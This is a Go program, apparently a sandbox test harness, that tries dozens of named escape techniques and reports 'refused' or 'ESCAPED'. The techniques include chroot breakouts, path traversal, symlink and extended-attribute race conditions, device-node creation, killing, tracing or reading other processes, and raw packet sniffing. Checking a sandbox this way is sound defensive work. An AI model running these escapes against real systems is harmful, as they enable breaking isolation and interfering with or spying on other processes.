// Command escape tries to leave the root file system that it runs in, or to reach
// processes outside of it, in the way that its first argument names. It prints
// "refused" or what it achieved.
package main

import (
	"errors"
	"fmt"
	"io"
	"net"
	"os"
	"runtime"
	"strconv"
	"strings"
	"syscall"
	"unsafe"

	"golang.org/x/sys/unix"
)

func main() {
	runtime.LockOSThread()
	attack := attacks[os.Args[1]]
	if attack == nil {
		fmt.Println("unknown attack")
		return
	}
	if err := attack(os.Args[2:]); err != nil {
		fmt.Println("refused:", err)
		return
	}
	fmt.Println("ESCAPED")
}

var attacks = map[string]func(args []string) error{
	// file
	"double chroot": func(args []string) error {
		if err := errors.Join(unix.Mkdir("/tmp/x", 0o755), unix.Chroot("/tmp/x")); err != nil {
			return err
		}
		for range 64 {
			_ = unix.Chdir("..")
		}
		return errors.Join(unix.Chroot("."), read(args[0]))
	},
	"dots": func(args []string) error { return read(strings.Repeat("../", 64) + args[0]) },
	"inherited descriptor": func(args []string) error {
		for fd := range 4096 {
			if fd > 2 && unix.Fchdir(fd) == nil {
				return read(strings.Repeat("../", 64) + args[0])
			}
		}
		return errors.New("none")
	},
	"new user namespace": func(args []string) error {
		if err := unix.Unshare(unix.CLONE_NEWUSER); err != nil {
			return err
		}
		return errors.Join(unix.Chroot("/tmp"), read(args[0]))
	},
	"mount proc": func(args []string) error {
		if err := unix.Mount("proc", "/tmp", "proc", 0, ""); err != nil {
			return err
		}
		return read("/tmp/1/root" + args[0])
	},
	"file handle": func(args []string) error {
		handle, _, err := unix.NameToHandleAt(unix.AT_FDCWD, "/", 0)
		if err != nil {
			return err
		}
		_, err = unix.OpenByHandleAt(unix.AT_FDCWD, handle, unix.O_RDONLY)
		return err
	},
	// A link takes the place of a device that is being made.
	"swapped device": func(args []string) error {
		if err := errors.Join(unix.Mkdir("/tmp/s", 0o777), unix.Symlink(args[0], "/tmp/link")); err != nil {
			return err
		}
		done := make(chan bool)
		go func() {
			defer close(done)
			for range 500 {
				_ = errors.Join(unix.Link("/tmp/link", "/tmp/s/l"), unix.Rename("/tmp/s/l", "/tmp/s/d"), unix.Unlink("/tmp/s/d"))
			}
		}()
		for range 500 {
			_ = unix.Mknod("/tmp/s/d", unix.S_IFCHR|0o4777, int(unix.Mkdev(1, 3)))
		}
		<-done
		return errors.New("see what has changed")
	},
	// no arguments
	"block device":       func([]string) error { return device(unix.S_IFBLK|0o600, unix.Mkdev(8, 0)) },
	"other block device": func([]string) error { return device(unix.S_IFBLK|0o600|1<<20, unix.Mkdev(254, 0)) },
	"memory device":      func([]string) error { return device(unix.S_IFCHR|0o600, unix.Mkdev(1, 1)) },
	"terminal device":    func([]string) error { return device(unix.S_IFCHR|0o600, unix.Mkdev(4, 1)) },
	// A user's file becomes a device in the image.
	"forge": func([]string) error {
		const record, value = "user.bob.device", "0:0:0666:block-8-0"
		if err := os.WriteFile("/tmp/forged", nil, 0o600); err != nil {
			return err
		}
		if err := unix.Setxattr("/tmp/forged", "user.mine", []byte("x"), 0); err != nil {
			return fmt.Errorf("the user's own: %w", err)
		}
		refused := unix.Setxattr("/tmp/forged", record, []byte(value), 0)
		// One that is another name when it is looked at.
		name := append([]byte("user.bob.devicx"), 0)
		path, data := append([]byte("/tmp/forged"), 0), []byte(value)
		last := len(name) - 2
		stop := make(chan bool)
		go func() {
			for {
				select {
				case <-stop:
					return
				default:
					name[last] ^= 'x' ^ 'e'
				}
			}
		}()
		for range 3000 {
			unix.Syscall6(unix.SYS_SETXATTR, uintptr(unsafe.Pointer(&path[0])), uintptr(unsafe.Pointer(&name[0])), uintptr(unsafe.Pointer(&data[0])), uintptr(len(data)), 0, 0)
		}
		close(stop)
		if _, err := unix.Getxattr("/tmp/forged", record, nil); err != nil {
			return errors.Join(refused, err)
		}
		return nil
	},
	"io_uring": func([]string) error {
		var params [120]byte
		_, _, errno := unix.Syscall(unix.SYS_IO_URING_SETUP, 4, uintptr(unsafe.Pointer(&params)), 0)
		return failure(errno)
	},
	"null of the machine": func([]string) error {
		if err := unix.Fchmod(0, 0o640); err != nil {
			return err
		}
		return errors.New("see what has changed")
	},
	"keyring": func([]string) error {
		_, err := unix.KeyctlGetKeyringID(unix.KEY_SPEC_SESSION_KEYRING, false)
		return err
	},
	"chroot capability": func([]string) error {
		header := unix.CapUserHeader{Version: unix.LINUX_CAPABILITY_VERSION_3}
		var data [2]unix.CapUserData
		if err := unix.Capget(&header, &data[0]); err != nil {
			return err
		}
		data[0].Permitted |= 1 << unix.CAP_SYS_CHROOT
		data[0].Effective |= 1 << unix.CAP_SYS_CHROOT
		return unix.Capset(&header, &data[0])
	},
	// process
	"kill": func(args []string) error { return unix.Kill(pid(args), unix.SIGKILL) },
	"stop": func(args []string) error { return unix.Kill(pid(args), unix.SIGSTOP) },
	"kill by thread": func(args []string) error {
		_, _, errno := unix.Syscall(unix.SYS_TKILL, uintptr(pid(args)), uintptr(unix.SIGKILL), 0)
		return failure(errno)
	},
	"kill with dirty bits": func(args []string) error {
		_, _, errno := unix.Syscall(unix.SYS_KILL, uintptr(pid(args))|1<<32, uintptr(unix.SIGKILL), 0)
		return failure(errno)
	},
	"kill guard": func([]string) error { return unix.Kill(os.Getppid(), unix.SIGKILL) },
	"kill group": func(args []string) error {
		group, err := unix.Getpgid(pid(args))
		if err != nil {
			return err
		}
		if group == 1 {
			return errors.New("the group of the first process has no name")
		}
		return unix.Kill(-group, unix.SIGKILL)
	},
	"kill by descriptor": func(args []string) error {
		fd, err := unix.PidfdOpen(pid(args), 0)
		if err != nil {
			return err
		}
		return unix.PidfdSendSignal(fd, unix.SIGKILL, nil, 0)
	},
	"kill by owner of a pipe": func(args []string) error {
		var p [2]int
		if err := unix.Pipe(p[:]); err != nil {
			return err
		}
		if _, err := unix.FcntlInt(uintptr(p[0]), unix.F_SETOWN, pid(args)); err != nil {
			return err
		}
		if _, err := unix.FcntlInt(uintptr(p[0]), unix.F_SETSIG, int(unix.SIGKILL)); err != nil {
			return err
		}
		if _, err := unix.FcntlInt(uintptr(p[0]), unix.F_SETFL, unix.O_ASYNC); err != nil {
			return err
		}
		if _, err := unix.Write(p[1], []byte("x")); err != nil {
			return err
		}
		return errors.New("see whether it lives")
	},
	"limit": func(args []string) error {
		return unix.Prlimit(pid(args), unix.RLIMIT_CPU, &unix.Rlimit{}, nil)
	},
	"trace": func(args []string) error { return unix.PtraceAttach(pid(args)) },
	"trace as its user": func(args []string) error {
		if err := errors.Join(syscall.Setresgid(victim, victim, victim), syscall.Setresuid(victim, victim, victim)); err != nil {
			return err
		}
		return unix.PtraceAttach(pid(args))
	},
	"memory": func(args []string) error {
		b := make([]byte, 1)
		local := []unix.Iovec{{Base: &b[0], Len: 1}}
		_, err := unix.ProcessVMReadv(pid(args), local, []unix.RemoteIovec{{Base: 0x400000, Len: 1}}, 0)
		if errors.Is(err, unix.EFAULT) {
			return nil // it may look
		}
		return err
	},
	"descriptor": func(args []string) error {
		fd, err := unix.PidfdOpen(pid(args), 0)
		if err != nil {
			return err
		}
		_, err = unix.PidfdGetfd(fd, 1, 0)
		return err
	},
	// socket
	"read socket": func(args []string) error {
		c, err := net.Dial("unix", args[0])
		if err != nil {
			return err
		}
		content, err := io.ReadAll(c)
		fmt.Print(string(content))
		os.Exit(0)
		return err
	},
	"abstract socket": func(args []string) error {
		c, err := net.Dial("unix", "@"+args[0])
		if err != nil {
			return err
		}
		return c.Close()
	},
	"serve abstract socket": func(args []string) error {
		l, err := net.Listen("unix", "@"+args[0])
		if err != nil {
			return err
		}
		c, err := l.Accept()
		if err != nil {
			return err
		}
		return c.Close()
	},
	"wait for abstract socket": func(args []string) error {
		for {
			c, err := net.Dial("unix", "@"+args[0])
			if errors.Is(err, unix.ECONNREFUSED) {
				runtime.Gosched()
				continue
			}
			if err != nil {
				return err
			}
			return c.Close()
		}
	},
	"abstract datagram": func(args []string) error {
		c, err := net.Dial("unixgram", "@"+args[0])
		if err != nil {
			return err
		}
		_, err = c.Write([]byte("x"))
		return errors.Join(err, c.Close())
	},
	// word that others send on the loopback interface
	"read packets": func(args []string) error {
		const protocol = unix.ETH_P_ALL<<8&0xff00 | unix.ETH_P_ALL>>8 // in network order
		fd, err := unix.Socket(unix.AF_PACKET, unix.SOCK_RAW, protocol)
		if err != nil {
			return err
		}
		return receive(fd, args[0])
	},
	"read datagrams": func(args []string) error {
		fd, err := unix.Socket(unix.AF_INET, unix.SOCK_RAW, unix.IPPROTO_UDP)
		if err != nil {
			return err
		}
		return receive(fd, args[0])
	},
	"low port": func([]string) error {
		fd, err := unix.Socket(unix.AF_INET, unix.SOCK_STREAM, 0)
		if err != nil {
			return err
		}
		return unix.Bind(fd, &unix.SockaddrInet4{Port: 1, Addr: [4]byte{127, 0, 0, 1}})
	},
	"interface down": func([]string) error {
		fd, err := unix.Socket(unix.AF_INET, unix.SOCK_DGRAM, 0)
		if err != nil {
			return err
		}
		loopback, err := unix.NewIfreq("lo")
		if err != nil {
			return err
		}
		loopback.SetUint16(unix.IFF_UP)
		return unix.IoctlIfreq(fd, unix.SIOCSIFFLAGS, loopback)
	},
}

// receive returns nil when it has received the word.
func receive(fd int, word string) error {
	b := make([]byte, 1<<16)
	for {
		n, err := unix.Read(fd, b)
		if err != nil {
			return err
		}
		if strings.Contains(string(b[:n]), word) {
			return nil
		}
	}
}

// victim is a user.
const victim = 65534

func pid(args []string) int {
	n, err := strconv.Atoi(args[0])
	if err != nil {
		panic(err)
	}
	return n
}

func read(path string) error {
	_, err := os.ReadFile(path)
	return err
}

func failure(errno unix.Errno) error {
	if errno == 0 {
		return nil
	}
	return errno
}

func device(mode uint32, number uint64) error {
	if err := unix.Mknod("/tmp/device", mode, int(number)); err != nil {
		return err
	}
	fd, err := unix.Open("/tmp/device", unix.O_RDONLY|unix.O_NONBLOCK, 0)
	if err != nil {
		return fmt.Errorf("made, but %w", err)
	}
	defer unix.Close(fd)
	var st unix.Stat_t
	if err := unix.Fstat(fd, &st); err != nil {
		return err
	}
	if st.Mode&unix.S_IFMT == unix.S_IFREG {
		return errors.New("made, but a file")
	}
	return nil
}
